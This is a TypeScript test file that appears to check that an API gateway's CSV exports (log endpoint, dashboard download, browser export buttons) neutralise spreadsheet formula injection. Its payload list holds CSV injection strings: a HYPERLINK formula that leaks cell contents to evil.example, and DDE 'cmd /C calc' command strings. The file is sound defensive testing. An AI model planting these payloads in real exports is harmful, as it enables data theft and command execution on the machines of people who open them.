/**
 * CSV exports open in spreadsheets, and some exported fields are text a caller controls (`x-source`,
 * user agent, model id, a session's end-user id). A cell starting with `=`, `+`, `-`, `@`, a tab or
 * a carriage return is neutralised with a leading `'` (OWASP, CSV injection) in every export:
 * `GET /v1/master/logs` with `Accept: text/csv`, the dashboard's CSV download, and the dashboard
 * tables' "Export CSV" buttons (public/dashboard/assets/csv.js). Plain numbers stay numbers.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { call, seedOrg, type SeededOrg } from "../helpers/fixtures";
import { applyRows, type LogRowInsert } from "../helpers/logs";
import { chat, user, waitForLog } from "../chat/helpers";
import { signIn } from "../dashboard/session";
import { newId } from "../../src/lib/ids";
import { HOUR_MS } from "../../src/usage/aggregate";
import { csvCell } from "../../src/lib/csv";
import "../../public/dashboard/assets/csv.js";

const T0 = Date.UTC(2026, 2, 9, 10, 0, 0);
const iso = (t: number) => new Date(t).toISOString();

/** One payload per leading character a spreadsheet treats as the start of a formula. */
const PAYLOADS: ReadonlyArray<readonly [string, string]> = [
  ["=", '=HYPERLINK("https://evil.example/?leak="&A1,"open")'],
  ["+", "+cmd|' /C calc'!A0"],
  ["-", "-2+3+cmd|' /C calc'!A0"],
  ["@", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["tab", "\t=1+1"],
  ["carriage return", "\r=1+1"],
];

/** RFC 4180 rows (quoted cells may hold commas, quotes, CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\n" || (ch === "\r" && text[i + 1] === "\n")) {
      if (ch === "\r") i++;
      row.push(cell), rows.push(row), (row = []), (cell = "");
    } else cell += ch;
  }
  if (cell !== "" || row.length) row.push(cell), rows.push(row);
  return rows;
}

/** The cells of `column` in the data rows of a CSV export. */
function column(text: string, name: string): string[] {
  const [head, ...rows] = parseCsv(text);
  const at = head!.indexOf(name);
  expect(at, `column ${name}`).toBeGreaterThanOrEqual(0);
  return rows.map((r) => r[at]!);
}

let org: SeededOrg;

beforeAll(async () => {
  org = await seedOrg();
  const rows: LogRowInsert[] = PAYLOADS.map(([, payload], i) => ({
    id: newId("log"),
    requestId: newId("req"),
    organizationId: org.orgId,
    projectId: org.projectId,
    apiKeyId: org.keyId,
    sourceApp: payload,
    requestedModel: payload,
    statusCode: 400,
    errorMessage: payload,
    // a refund's negative cost is a plain number, not a formula
    costPico: i === 0 ? -5_000_000 : 1000,
    createdAt: T0 + i * 60_000,
  }));
  await applyRows(rows);
});

const exported = (text: string, field: string) => column(text, field).sort();
const expected = () => PAYLOADS.map(([, p]) => `'${p}`).sort();

describe("GET /v1/master/logs as CSV", () => {
  it.each(PAYLOADS)("a cell starting with %s gets a leading '", async (_, payload) => {
    const res = await call(`/v1/master/logs?from=${iso(T0)}&to=${iso(T0 + HOUR_MS)}`, { key: org.masterKey, headers: { accept: "text/csv" } });
    expect(res.status).toBe(200);
    const text = await res.text();
    for (const field of ["sourceApp", "requestedModel", "errorMessage"]) {
      const cells = column(text, field);
      expect(cells, field).toContain(`'${payload}`);
      expect(cells, field).not.toContain(payload);
    }
  });

  it("every formula-like cell is neutralised; plain numbers (a negative cost) are left as numbers", async () => {
    const text = await (await call(`/v1/master/logs?from=${iso(T0)}&to=${iso(T0 + HOUR_MS)}`, { key: org.masterKey, headers: { accept: "text/csv" } })).text();
    expect(exported(text, "sourceApp")).toEqual(expected());
    expect(column(text, "costPico")).toContain("-5000000");
    expect(column(text, "statusCode")).toEqual(PAYLOADS.map(() => "400"));
  });

  it("a real request's x-source is exported neutralised", async () => {
    const res = await chat(org.key, { model: "gpt-4o-mini", messages: user("csv") }, { "x-source": '=HYPERLINK("https://evil.example","x")' });
    expect(res.status).toBe(200);
    await waitForLog(res.headers.get("x-request-id")!, 10_000);
    const now = Date.now();
    const text = await (await call(`/v1/master/logs?from=${iso(now - HOUR_MS)}&to=${iso(now + 60_000)}`, { key: org.masterKey, headers: { accept: "text/csv" } })).text();
    expect(column(text, "sourceApp")).toContain(`'=HYPERLINK("https://evil.example","x")`);
  });
});

describe("the dashboard's CSV download", () => {
  it.each(PAYLOADS)("a cell starting with %s gets a leading '", async (_, payload) => {
    const owner = await signIn(org.ownerEmail, org.ownerPassword);
    const res = await call(`/dashboard/usage/download?from=${iso(T0)}&to=${iso(T0 + HOUR_MS)}&format=csv`, { headers: { cookie: owner.cookie } });
    expect(res.status).toBe(200);
    const cells = column(await res.text(), "sourceApp");
    expect(cells).toContain(`'${payload}`);
    expect(cells).not.toContain(payload);
  });
});

describe("the dashboard tables' Export CSV buttons (csv.js) and the server agree", () => {
  const browserCell = (globalThis as unknown as { SwitchboardCsv: { cell: (v: string) => string } }).SwitchboardCsv.cell;

  it.each(PAYLOADS)("a cell starting with %s gets a leading '", (_, payload) => {
    const cell = browserCell(payload);
    expect(parseCsv(cell)[0]).toEqual([`'${payload}`]);
    expect(cell).toBe(csvCell(payload));
  });

  it("other text and plain numbers are unchanged; quoting as RFC 4180", () => {
    for (const v of ["gpt-4o-mini", "-1.5", "42", "1e-3", "a,b", 'say "hi"', "", "alice@example.com"]) {
      expect(browserCell(v)).toBe(csvCell(v));
      expect(parseCsv(browserCell(v) + "\n")[0]).toEqual([v]);
    }
  });
});
